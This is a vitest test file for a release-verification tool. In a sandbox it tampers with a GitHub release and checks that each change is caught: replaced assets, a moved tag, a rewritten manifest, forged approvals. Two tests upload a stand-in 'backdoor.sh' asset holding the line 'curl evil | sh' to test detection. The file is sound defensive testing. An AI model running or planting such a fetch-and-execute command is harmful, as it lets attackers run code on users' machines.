/**
 * gatehouse verify against the sandbox: a release made by the built change-gate and release-bundle
 * bundles, as a workflow makes it, then verified from GitHub alone — and then tampered with, one
 * way per check, each failing with a message that names what is wrong.
 */
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../packages/cli/src/cli";
import { MAX_EVIDENCE_BYTES } from "../packages/release-process/src/verify/readRelease";
import type { Scenario } from "../packages/sandbox/src/scenario";
import { startSandbox } from "../packages/sandbox/src/server";
import { makeNodeId } from "../packages/sandbox/src/store";
import { api } from "../packages/sandbox/src/testing";
import type { Repo } from "../packages/sandbox/src/types";
import { changeRequest, POLICY, pull, RUN_ID, world } from "./change-gate.fixture";
import { runAction } from "./harness";

type Sb = Awaited<ReturnType<typeof startSandbox>>;
const sandboxes: Sb[] = [];
const dirs: string[] = [];
afterEach(async () => {
  await Promise.all(sandboxes.splice(0).map((s) => s.close()));
});
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const ARTEFACTS = { "dist/shop-linux.tar.gz": "linux build", "dist/shop-mac.zip": "mac build" };

/** acme/shop: PR #12 by bob links CR #5 (alice's), approved by carol; dave reviews production. */
function shopWorld(tweak: (sc: Scenario) => void = () => {}): Scenario {
  const sc = world({
    crs: [changeRequest(5)],
    pulls: [pull(12, "feat: billing", "Adds billing.\n\nChange-Request: #5")],
  });
  const repo = sc.repos![0]!;
  repo.environments = [{ name: "production", reviewers: ["dave"], preventSelfReview: true }];
  repo.runs = [
    {
      id: RUN_ID,
      actor: "bob",
      approvals: [
        {
          user: "dave",
          state: "approved",
          comment: "Go",
          environments: ["production"],
          at: "2026-03-02T11:30:00Z",
        },
      ],
    },
  ];
  sc.tokens = [
    { value: "ghp_issues_only", user: "auditor", permissions: { issues: "read" } },
    { value: "ghp_carol", user: "carol", permissions: { issues: "write" } },
  ];
  tweak(sc);
  return sc;
}

async function sandbox(sc: Scenario = shopWorld()) {
  const sb = await startSandbox(sc);
  sandboxes.push(sb);
  return sb;
}

const shop = (sb: Sb): Repo => sb.state.repos.find((r) => r.owner === "acme" && r.name === "shop")!;

/** The workflow: change-gate assesses, release-bundle releases what it assessed. */
async function release(
  sb: Sb,
  files: Record<string, string> = ARTEFACTS,
  mode = "enforce",
  freeze = "",
  token?: string,
) {
  const workspace = mkdtempSync(join(tmpdir(), "verify-ws-"));
  dirs.push(workspace);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(workspace, path, ".."), { recursive: true });
    writeFileSync(join(workspace, path), text);
  }
  const gate = await runAction("change-gate", {
    sandbox: sb,
    repository: "acme/shop",
    runId: RUN_ID,
    workspace,
    inputs: { environment: "production", mode },
    ...(token ? { token } : {}),
  });
  if (mode === "enforce") expect(gate.outputs.decision, gate.stdout + gate.stderr).toBe("allow");
  const bundle = await runAction("release-bundle", {
    sandbox: sb,
    repository: "acme/shop",
    runId: RUN_ID,
    workspace,
    inputs: {
      version: "1.1.0",
      files: "dist/*",
      environment: "production",
      "change-requests": gate.outputs["change-requests"]!,
      range: `${gate.outputs["base-sha"]}...${gate.outputs["head-sha"]}`,
      ...(freeze ? { freeze } : {}),
    },
  });
  expect(bundle.exitCode, bundle.stdout + bundle.stderr).toBe(0);
  const rel = shop(sb).releases.find((r) => r.tagName === "v1.1.0")!;
  expect(rel.draft).toBe(false);
  return { workspace, release: rel };
}

interface Verdict {
  code: number;
  json: {
    repository: string;
    tag: string;
    ok: boolean;
    checks: { name: string; ok: boolean; detail: string }[];
  };
  check: (name: string) => { name: string; ok: boolean; detail: string };
}

async function verify(sb: Sb, args: string[] = [], token = sb.token): Promise<Verdict> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runCli(["verify", "--repository", "acme/shop", "--tag", "v1.1.0", "--json", ...args], {
    out: (t) => out.push(t),
    err: (t) => err.push(t),
    cwd: process.cwd(),
    env: { GITHUB_TOKEN: token, GITHUB_API_URL: sb.apiUrl, GITHUB_GRAPHQL_URL: sb.graphqlUrl },
  });
  expect(out, err.join("\n")).toHaveLength(1);
  const json = JSON.parse(out[0]!) as Verdict["json"];
  return { code, json, check: (name) => json.checks.find((c) => c.name === name)! };
}

/** A text's git blob sha (`git hash-object`). */
const gitBlob = (text: string) =>
  createHash("sha1")
    .update(`blob ${Buffer.byteLength(text)}\0`)
    .update(text)
    .digest("hex");

/** Replaces (or adds) an asset through the API, as someone with contents: write can. */
async function putAsset(sb: Sb, releaseId: number, name: string, content: string) {
  const gh = api(sb);
  const existing = shop(sb)
    .releases.find((r) => r.id === releaseId)!
    .assets.find((a) => a.name === name);
  if (existing) expect((await gh.delete(`/repos/acme/shop/releases/assets/${existing.id}`)).status).toBe(204);
  const res = await fetch(`${sb.uploadsUrl}/repos/acme/shop/releases/${releaseId}/assets?name=${name}`, {
    method: "POST",
    headers: { authorization: `token ${sb.token}`, "content-type": "application/octet-stream" },
    body: content,
  });
  expect(res.status).toBe(201);
}

describe("gatehouse verify: a release made by the workflow, then tampered with", () => {
  // One release for these tests: each puts back what it changed.
  let sb: Sb;
  let made: Awaited<ReturnType<typeof release>>;
  const original = (name: string) =>
    Buffer.from(made.release.assets.find((a) => a.name === name)!.content!).toString("utf8");
  beforeAll(async () => {
    sb = await startSandbox(shopWorld());
    made = await release(sb);
  });
  afterAll(() => sb.close());

  it("passes, every check by name, in few requests", async () => {
    const before = sb.requests.length;
    const v = await verify(sb, ["--assets", join(made.workspace, "dist")]);
    expect(v.json.checks.map((c) => c.name)).toEqual([
      "published",
      "commit",
      "manifest",
      "assets",
      "checksums",
      "approvals",
      "environment-approvals",
      "freeze",
    ]);
    expect(v.json.checks.filter((c) => !c.ok)).toEqual([]);
    expect(v.code).toBe(0);
    expect(v.json).toMatchObject({ repository: "acme/shop", tag: "v1.1.0", ok: true });
    expect(v.check("approvals").detail).toMatch(/^1 change request authorised at .*: #5 \(@carol\)/);
    expect(v.check("environment-approvals").detail).toMatch(/@dave approved production/);
    expect(v.check("assets").detail).toMatch(/2 artefacts.*and 2 local files hashed/);
    expect(v.check("published").detail).toMatch(/not immutable \(.*it needs `administration: read`\)/);
    expect(sb.requests.length - before).toBeLessThanOrEqual(15);
    expect(sb.violations).toEqual([]);
  });

  it("fails an asset replaced after the release, naming it", async () => {
    await putAsset(sb, made.release.id, "shop-mac.zip", "mac build, patched");
    try {
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("assets")).toMatchObject({ ok: false });
      expect(v.check("assets").detail).toMatch(
        /shop-mac\.zip is 18 bytes on the release, 9 in the manifest: it was replaced/,
      );
    } finally {
      await putAsset(sb, made.release.id, "shop-mac.zip", "mac build");
    }
  });

  it("fails an asset of the same size with other bytes, by GitHub's digest", async () => {
    await putAsset(sb, made.release.id, "shop-mac.zip", "MAC BUILD");
    try {
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("assets").detail).toMatch(
        /shop-mac\.zip's SHA-256 on GitHub is .*, the manifest's .*: it was replaced/,
      );
    } finally {
      await putAsset(sb, made.release.id, "shop-mac.zip", "mac build");
    }
  });

  it("fails a local copy that is not the release's (--assets)", async () => {
    const dir = mkdtempSync(join(tmpdir(), "verify-local-"));
    dirs.push(dir);
    writeFileSync(join(dir, "shop-linux.tar.gz"), "linux build, local");
    const v = await verify(sb, ["--assets", dir]);
    expect(v.code).toBe(1);
    expect(v.check("assets").detail).toMatch(/^the local shop-linux\.tar\.gz \(18 bytes/);
    expect(v.check("assets").detail).toMatch(/shop-mac\.zip is not in the local directory/);
  });

  it("fails an extra asset, naming it", async () => {
    await putAsset(sb, made.release.id, "backdoor.sh", "curl evil | sh");
    try {
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("assets").detail).toMatch(/on the release but not in the manifest: backdoor\.sh/);
    } finally {
      const extra = shop(sb)
        .releases.find((r) => r.id === made.release.id)!
        .assets.find((a) => a.name === "backdoor.sh")!;
      await api(sb).delete(`/repos/acme/shop/releases/assets/${extra.id}`);
    }
  });

  it("fails a changed line of SHA256SUMS, naming the file", async () => {
    const text = original("SHA256SUMS");
    const changed = text.replace(/^[0-9a-f]{64}(?= {2}shop-linux\.tar\.gz$)/m, "0".repeat(64));
    expect(changed).not.toBe(text);
    await putAsset(sb, made.release.id, "SHA256SUMS", changed);
    try {
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("checksums").detail).toMatch(
        /the line for shop-linux\.tar\.gz says 0000000000000000…, the manifest says/,
      );
      expect(v.check("assets").ok).toBe(true);
    } finally {
      await putAsset(sb, made.release.id, "SHA256SUMS", text);
    }
  });

  it("fails a tag moved after the release, naming both commits", async () => {
    const released = shop(sb).refs.get("refs/tags/v1.1.0")!;
    const initial = [...shop(sb).commits.values()].find((c) => c.message.startsWith("chore: initial"))!.sha;
    expect(
      (await api(sb).patch("/repos/acme/shop/git/refs/tags/v1.1.0", { sha: initial, force: true })).status,
    ).toBe(200);
    try {
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("commit").detail).toBe(
        `The tag v1.1.0 points to ${initial.slice(0, 12)}, but the manifest says the release is ${released.slice(0, 12)}: the tag was moved after the release.`,
      );
    } finally {
      await api(sb).patch("/repos/acme/shop/git/refs/tags/v1.1.0", { sha: released, force: true });
    }
  });

  it("cannot tell without permission: exit 2, naming the permission", async () => {
    const v = await verify(sb, [], "ghp_issues_only");
    expect(v.code).toBe(2);
    expect(v.json.ok).toBe(false);
    expect(v.check("published").detail).toMatch(
      /The token cannot read the release v1\.1\.0 of acme\/shop: it needs `contents: read`/,
    );
  });

  it("fails a manifest that is not valid against the shipped schema, naming the field", async () => {
    const text = original("release-manifest.json");
    const manifest = JSON.parse(text);
    manifest.commit = "not-a-sha";
    await putAsset(sb, made.release.id, "release-manifest.json", JSON.stringify(manifest));
    try {
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("manifest").detail).toMatch(
        /does not match the release manifest schema: \/commit must match pattern/,
      );
    } finally {
      await putAsset(sb, made.release.id, "release-manifest.json", text);
    }
  });

  it("fails a manifest over 10 MiB without downloading it: it is not a file Gatehouse wrote", async () => {
    const text = original("release-manifest.json");
    // Still JSON, padded past MAX_EVIDENCE_BYTES: a download of it would be read whole otherwise.
    const padded = `${text.trimEnd().slice(0, -1)}, "padding": "${"x".repeat(MAX_EVIDENCE_BYTES)}"}`;
    await putAsset(sb, made.release.id, "release-manifest.json", padded);
    try {
      const before = sb.requests.length;
      const v = await verify(sb);
      expect(v.code).toBe(1);
      expect(v.check("manifest")).toMatchObject({ ok: false });
      expect(v.check("manifest").detail).toMatch(
        /^release-manifest\.json is \d+ bytes, more than the 10485760 Gatehouse reads of it: it is not a file Gatehouse wrote\.$/,
      );
      expect(v.check("approvals").detail).toMatch(/Not checked: without a valid manifest/);
      // Refused by its listed size: the asset itself was never downloaded.
      const big = shop(sb)
        .releases.find((r) => r.id === made.release.id)!
        .assets.find((a) => a.name === "release-manifest.json")!;
      expect(sb.requests.slice(before).filter((r) => r.path.includes(`/releases/assets/${big.id}`))).toEqual(
        [],
      );
    } finally {
      await putAsset(sb, made.release.id, "release-manifest.json", text);
    }
  });

  it("fails a release without its manifest; the other checks say why they were not made", async () => {
    const manifest = shop(sb)
      .releases.find((r) => r.id === made.release.id)!
      .assets.find((a) => a.name === "release-manifest.json")!;
    expect((await api(sb).delete(`/repos/acme/shop/releases/assets/${manifest.id}`)).status).toBe(204);
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("manifest")).toMatchObject({ ok: false });
    expect(v.check("manifest").detail).toMatch(/The release has no release-manifest\.json/);
    expect(v.check("approvals").detail).toMatch(/Not checked: without a valid manifest/);
  });
});

describe("gatehouse verify re-assesses the approvals with the gate's rules", () => {
  it("fails an approval by an author of a commit in the range", async () => {
    // The gate ran in report mode (it never fails) and the release went out anyway.
    const sb = await sandbox(
      shopWorld((sc) => {
        const repo = sc.repos![0]!;
        repo.issues = [changeRequest(5, { approvedBy: ["dave"] })];
        repo.pulls = [pull(12, "feat: billing", "Adds billing.\n\nChange-Request: #5", { author: "dave" })];
      }),
    );
    await release(sb, ARTEFACTS, "report");
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("approvals").ok).toBe(false);
    expect(v.check("approvals").detail).toMatch(/Change request #5 'Change 5': it needs 1 approval/);
    expect(v.check("approvals").detail).toMatch(
      /@dave's approval does not count: they authored commit [0-9a-f]{7} in the deployed range/,
    );
    expect(v.check("assets").ok).toBe(true);
  });

  it("fails an approval made after the release", async () => {
    const sb = await sandbox(
      shopWorld((sc) => {
        sc.repos![0]!.issues = [changeRequest(5, { approvedBy: [] })];
      }),
    );
    await release(sb, ARTEFACTS, "report");
    sb.setNow("2026-03-03T09:00:00Z");
    const approve = await fetch(`${sb.apiUrl}/repos/acme/shop/issues/5/comments`, {
      method: "POST",
      headers: { authorization: "token ghp_carol", "content-type": "application/json" },
      body: JSON.stringify({ body: "/approve" }),
    });
    expect(approve.status).toBe(201);
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("approvals").detail).toMatch(
      /Change request #5 'Change 5': it needs 1 approval at medium risk; none counts/,
    );
  });
});

/**
 * Rewrites the manifest and its SHA256SUMS line together, as someone with `contents: write` can on a
 * release that is not immutable: the checksums still agree, so only the re-checks can tell.
 */
async function rewriteManifest(sb: Sb, releaseId: number, edit: (manifest: Record<string, unknown>) => void) {
  const assets = shop(sb).releases.find((r) => r.id === releaseId)!.assets;
  const text = (name: string) => Buffer.from(assets.find((a) => a.name === name)!.content!).toString("utf8");
  const manifest = JSON.parse(text("release-manifest.json"));
  edit(manifest);
  const rewritten = `${JSON.stringify(manifest, null, 2)}\n`;
  const sums = text("SHA256SUMS").replace(
    /^[0-9a-f]{64}(?= {2}release-manifest\.json$)/m,
    createHash("sha256").update(rewritten).digest("hex"),
  );
  await putAsset(sb, releaseId, "release-manifest.json", rewritten);
  await putAsset(sb, releaseId, "SHA256SUMS", sums);
}

/**
 * A push to the default branch changing the policy, as GitHub records it: a commit touching the
 * file, dated `at`, and the file at every earlier commit as it was (the sandbox keeps files per
 * ref: the commit that last set the policy gets its own copy).
 */
function pushPolicy(sb: Sb, text: string, at: string, previousPolicyCommit: string) {
  const repo = shop(sb);
  repo.contentsByRef[previousPolicyCommit] = { ...repo.contents };
  const head = repo.refs.get("refs/heads/main")!;
  const parent = repo.commits.get(head)!;
  const sha = createHash("sha1").update(`policy ${at}`).digest("hex");
  const commit = {
    ...parent,
    sha,
    nodeId: makeNodeId("Commit", `${repo.id}:${sha}`),
    message: "chore: the approvers change",
    author: { ...parent.author, date: at },
    committer: { ...parent.committer, date: at },
    parents: [head],
    files: [
      {
        filename: ".github/gatehouse.yml",
        status: "modified" as const,
        additions: 1,
        deletions: 1,
        changes: 2,
      },
    ],
  };
  repo.commits.set(sha, commit);
  sb.store.register(commit.nodeId, { kind: "Commit", repo, commit });
  repo.refs.set("refs/heads/main", sha);
  repo.contents = { ...repo.contents, ".github/gatehouse.yml": text };
}

describe("gatehouse verify judges under the policy of the release's instant", () => {
  it("passes a release under the policy then, though the default branch's policy changed since", async () => {
    const sb = await sandbox(
      shopWorld((sc) => {
        // The first commit added the policy.
        sc.repos![0]!.commits![0]!.files = ["README.md", ".github/gatehouse.yml"];
      }),
    );
    await release(sb);
    const initial = [...shop(sb).commits.values()].find((c) => c.message.startsWith("chore: initial"))!.sha;
    sb.setNow("2026-03-05T10:00:00Z");
    pushPolicy(
      sb,
      POLICY.replace("users: [carol, dave, erin]", "users: [mallory]"),
      "2026-03-05T10:00:00Z",
      initial,
    );
    const v = await verify(sb);
    expect(v.json.checks.filter((c) => !c.ok)).toEqual([]);
    expect(v.check("approvals").detail).toMatch(
      new RegExp(
        `under \\.github/gatehouse\\.yml on main at 2026-03-02T12:00:\\d\\d\\.000Z \\(blob ${gitBlob(POLICY).slice(0, 12)}\\): #5 \\(@carol\\)`,
      ),
    );
  });

  it("fails a manifest that leaves out a change request the range links, naming it", async () => {
    const sb = await sandbox();
    const made = await release(sb);
    await rewriteManifest(sb, made.release.id, (m) => {
      m.changeRequests = [];
    });
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("approvals").detail).toMatch(/the range links #5, which the manifest does not record/);
  });

  it("fails a release whose manifest records another policy than the default branch's then", async () => {
    const sb = await sandbox();
    const made = await release(sb);
    await rewriteManifest(sb, made.release.id, (m) => {
      (m.policy as { blobSha: string }).blobSha = "0".repeat(40);
    });
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("approvals").detail).toMatch(
      /the manifest records the policy blob 000000000000 .*but the default branch held blob [0-9a-f]{12} then: the release was assessed under another policy/,
    );
  });
});

describe("gatehouse verify and approver teams", () => {
  it("cannot tell without a token that reads team membership (exit 2, naming the token); passes with one", async () => {
    const sb = await sandbox(
      shopWorld((sc) => {
        sc.repos![0]!.files = {
          ".github/gatehouse.yml": POLICY.replace(
            "users: [carol, dave, erin]",
            "users: []\n    teams: [acme/cab]",
          ),
        };
        sc.users = [...(sc.users ?? []), "tom"];
        sc.repos![0]!.issues = [changeRequest(5, { approvedBy: ["tom"] })];
        sc.orgs = [{ login: "acme", teams: [{ slug: "cab", members: ["tom", "carol"] }] }];
        sc.tokens = [
          ...(sc.tokens ?? []),
          {
            value: "ghs_app_token",
            permissions: {
              contents: "read",
              issues: "write",
              pull_requests: "read",
              deployments: "read",
              actions: "read",
              members: "read",
            },
          },
        ];
      }),
    );
    await release(sb, ARTEFACTS, "enforce", "", "ghs_app_token");
    const v = await verify(sb);
    expect(v.code).toBe(2);
    expect(v.check("approvals").ok).toBe(false);
    expect(v.check("approvals").detail).toMatch(
      /^Cannot tell: the members of approver team @acme\/cab cannot be read with this token.*`read:org`/,
    );
    const withApp = await verify(sb, [], "ghs_app_token");
    expect(withApp.code).toBe(0);
    expect(withApp.check("approvals").detail).toMatch(/#5 \(@tom\)/);
  });
});

describe("gatehouse verify re-checks the run's environment approvals and the freeze decision", () => {
  it("fails environment approvals the manifest records and GitHub does not have, naming both", async () => {
    const sb = await sandbox();
    const made = await release(sb);
    await rewriteManifest(sb, made.release.id, (m) => {
      const approvals = m.environmentApprovals as { user: string }[];
      approvals[0]!.user = "erin";
    });
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("checksums").ok).toBe(true);
    expect(v.check("environment-approvals").ok).toBe(false);
    expect(v.check("environment-approvals").detail).toMatch(
      /the manifest records @erin approved production, which GitHub does not have for run 777; GitHub has @dave approved production for run 777, which the manifest does not record/,
    );
    expect(v.check("approvals").ok).toBe(true);
  });

  it("fails a release made inside a freeze whose manifest records none, naming the window", async () => {
    // freeze-window ran before the freeze began (or its output was forged); the release went out
    // inside "Quarter close" all the same.
    const sb = await sandbox(
      shopWorld((sc) => {
        sc.repos![0]!.files = {
          ".github/gatehouse.yml": `${POLICY}freeze:
  timezone: UTC
  windows:
    - name: Quarter close
      from: 2026-03-02T11:00
      to: 2026-03-02T18:00
`,
        };
      }),
    );
    await release(sb, ARTEFACTS, "enforce", JSON.stringify({ frozen: "false", window: "" }));
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("freeze").ok).toBe(false);
    expect(v.check("freeze").detail).toMatch(
      /^The manifest records no freeze, but at 2026-03-02T12:00:\d\d\.000Z the policy then had the freeze "Quarter close" on\.$/,
    );
    expect(v.check("approvals").ok).toBe(true);
  });
});

describe("the verify-release action (its bundle, as a runner runs it)", () => {
  it("passes a good release and fails a tampered one, naming the check in the summary", async () => {
    const sb = await sandbox();
    const made = await release(sb);
    const good = await runAction("verify-release", {
      sandbox: sb,
      repository: "acme/shop",
      workspace: made.workspace,
      inputs: { tag: "v1.1.0", assets: "dist" },
    });
    expect(good.exitCode, good.stdout + good.stderr).toBe(0);
    expect(good.outputs.verdict).toBe("verified");
    const json = JSON.parse(good.outputs.result!);
    expect(json).toMatchObject({ repository: "acme/shop", tag: "v1.1.0", ok: true });
    expect(json.checks.map((c: { name: string }) => c.name)).toHaveLength(8);
    expect(good.summary).toMatch(/^## ✅ Release v1\.1\.0 of acme\/shop/);
    expect(good.summary).toMatch(/\| ✅ \| `approvals` \| 1 change request authorised/);

    await putAsset(sb, made.release.id, "backdoor.sh", "curl evil | sh");
    const tampered = await runAction("verify-release", {
      sandbox: sb,
      repository: "acme/shop",
      inputs: { tag: "v1.1.0" },
    });
    expect(tampered.exitCode).toBe(1);
    expect(tampered.outputs.verdict).toBe("failed");
    expect(JSON.parse(tampered.outputs.result!).ok).toBe(false);
    expect(tampered.summary).toMatch(/Not verified: 1 check failed \(assets\)/);
    expect(tampered.summary).toMatch(/\| ❌ \| `assets` \| .*backdoor\.sh/);
    expect(tampered.stdout).toMatch(
      /::error::Not verified: 1 check failed \(assets\)\. assets: .*backdoor\.sh/,
    );
    expect(sb.violations).toEqual([]);
  });
});

describe("gatehouse verify", () => {
  it("says there is no release of a tag", async () => {
    const sb = await sandbox();
    const v = await verify(sb);
    expect(v.code).toBe(1);
    expect(v.check("published").detail).toBe("There is no published release of tag v1.1.0.");
  });
});
